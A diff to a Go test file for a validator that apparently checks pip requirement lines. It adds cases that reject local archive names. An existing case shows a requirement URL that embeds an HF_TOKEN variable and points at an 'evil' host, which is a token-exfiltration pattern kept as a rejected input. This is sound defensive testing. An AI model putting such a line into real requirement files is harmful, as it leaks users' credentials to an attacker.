@@ -53,6 +53,11 @@ func TestCheck(t *testing.T) {
 		"pkg${HF_TOKEN}":                     "${",
 		"x @ https://evil/${HF_TOKEN}/x.whl": "${",
 		"not a requirement!":                 "not a requirement",
+		// pip installs an archive named like this from its working
+		// directory (the user's) when such a file is there.
+		"demo_b-1.0-py3-none-any.whl": "local",
+		"secrets.tar.GZ":              "local",
+		"pkg.zip":                     "local",
 	} {
 		if _, err := Check(line); err == nil || !strings.Contains(err.Error(), why) {
 			t.Errorf("Check(%q) = %v; want an error about %q", line, err, why)
